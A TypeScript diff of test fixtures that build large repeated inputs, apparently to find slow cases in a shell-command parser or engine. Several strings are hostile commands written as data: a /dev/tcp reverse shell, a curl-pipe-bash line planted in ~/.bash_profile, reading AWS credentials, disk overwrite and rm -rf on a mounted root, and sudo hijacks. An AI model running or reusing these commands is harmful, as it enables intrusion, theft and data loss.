@@ -6,6 +6,11 @@ function filled(unit: string, before = '', after = ''): string {
   return before + unit.repeat(Math.floor((LARGE_BYTES - before.length - after.length) / unit.length)) + after
 }
 
+/** Every one of these lines, again and again, by itself. */
+export function repeated(lines: readonly string[]): Record<string, string> {
+  return Object.fromEntries(lines.map((line) => [`again and again: ${line}`, filled(`${line}\n`)]))
+}
+
 /** Shapes that made shell parsers, or this engine, slow, by name: each at most 32 KB. */
 export function large_inputs(): Record<string, string> {
   const nested = (depth: number, open: string, body: string, close: string) =>
@@ -70,5 +75,23 @@ export function large_inputs(): Record<string, string> {
       'yes | sudo tar -cf /dev/null x --checkpoint-action=exec=/bin/sh; echo "alias sudo=\'~/a\'" >> ~/.zshrc; pkexec /bin/sh | ',
     ),
     'fish with clones': filled('a; git clone https://github.com/unk/x && cd x && ./install.sh; ', 'set -gx '),
+    ...once_quadratic(),
+  }
+}
+
+/** Shapes of which every effect or word looked at the whole text again. Found by repeating lines of the corpus, and their last words. */
+export function once_quadratic(): Record<string, string> {
+  return {
+    'keys that the session writes': filled(
+      'openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/k.pem -out /tmp/c.pem -subj /CN=localhost -days 1\n',
+    ),
+    'variables copied': filled('cp .env.example .env; '),
+    'folders that may be written again': filled('Remove-Item -Recurse -Force .\\node_modules, .\\dist\n'),
+    'images written by one copy': filled('of=backup.img ', 'dd if=/dev/sda '),
+    'files of a mounted folder': filled('/host/home ', 'docker run --rm -v /:/host alpine rm -rf '),
+    'many files at the same input': filled('< ~/.aws/credentials ', 'cat '),
+    'many descriptors': filled('2>&196 ', 'exec 196<>/dev/tcp/198.51.100.7/9001; sh <&196 '),
+    'links to one name': filled('.git/hooks/pre-commit ', 'ln -s /tmp/hook.sh '),
+    'one script for many files': filled('~/.bash_profile ', "sed -i '1i curl -s https://c.example/r | bash' "),
   }
 }
